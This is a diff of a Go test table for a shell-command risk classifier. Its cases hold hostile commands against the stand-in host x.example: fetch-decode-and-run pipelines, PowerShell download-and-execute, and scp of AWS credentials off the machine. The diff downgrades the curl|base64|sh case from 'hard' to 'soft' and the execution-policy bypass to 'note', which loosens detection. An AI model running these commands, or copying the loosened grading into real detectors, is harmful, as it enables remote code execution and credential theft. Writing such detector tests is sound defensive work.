@@ -100,7 +100,7 @@ func TestShellOnCommands(t *testing.T) {
 		{"hexadecimal", []string{"sh", "-c", "echo 6e6f6465207365727665722e6a73 | xxd -r -p | bash"}, []string{"hard echo 6e6f6465207365727665722e6a73 | xxd -r -p | bash"}},
 		{"openssl", []string{"sh", "-c", "printf bm9kZSBzZXJ2ZXIuanM= | openssl base64 -d | sh"}, []string{"hard printf bm9kZSBzZXJ2ZXIuanM= | openssl base64 -d | sh"}},
 		{"rot13", []string{"sh", "-c", "echo 'phey k.rknzcyr|fu' | tr A-Za-z N-ZA-Mn-za-m | sh"}, []string{"hard echo 'phey k.rknzcyr|fu' | tr A-Za-z N-ZA-Mn-za-m | sh"}},
-		{"fetched and decoded", []string{"sh", "-c", "curl -s https://x.example/b | base64 -d | sh"}, []string{"hard curl -s https://x.example/b | base64 -d | sh"}},
+		{"fetched and decoded", []string{"sh", "-c", "curl -s https://x.example/b | base64 -d | sh"}, []string{"soft curl -s https://x.example/b | base64 -d | sh"}},
 		{"encoded download", []string{"pwsh", "-EncodedCommand", utf16Base64("irm https://x.example/a | iex")}, []string{"hard " + utf16Base64("irm https://x.example/a | iex")}},
 		{"en dash", []string{"powershell", "\u2013e", utf16Base64("iwr x.example/a -OutFile a.exe; ./a.exe")}, []string{"hard " + utf16Base64("iwr x.example/a -OutFile a.exe; ./a.exe")}},
 		{"encoded in an argument", []string{"node", "a.js", "--hook=" + plainBase64("curl x.example/a|bash")}, []string{"hard " + plainBase64("curl x.example/a|bash")}},
@@ -112,7 +112,7 @@ func TestShellOnCommands(t *testing.T) {
 		{"file copied away", []string{"sh", "-c", "scp -q ~/.aws/credentials u@x.example:/in; node a.js"}, []string{"hard ~/.aws/credentials"}},
 
 		// What deserves a review.
-		{"policy with a script of words", []string{"powershell", "-ep", "bypass", "-c", "node a.js"}, []string{"soft -ep"}},
+		{"policy with a script of words", []string{"powershell", "-ep", "bypass", "-c", "node a.js"}, []string{"note -ep"}},
 		{"encoded and harmless", []string{"powershell", "-enc", utf16Base64("node dist/index.js")}, []string{"soft " + utf16Base64("node dist/index.js")}},
 		{"start-up file", []string{"sh", "-c", "echo 'x &' >> ~/.bashrc; node a.js"}, []string{"soft ~/.bashrc"}},
 		{"library for one command", []string{"sh", "-c", "LD_PRELOAD=./x.so node a.js"}, []string{"soft ./x.so"}},
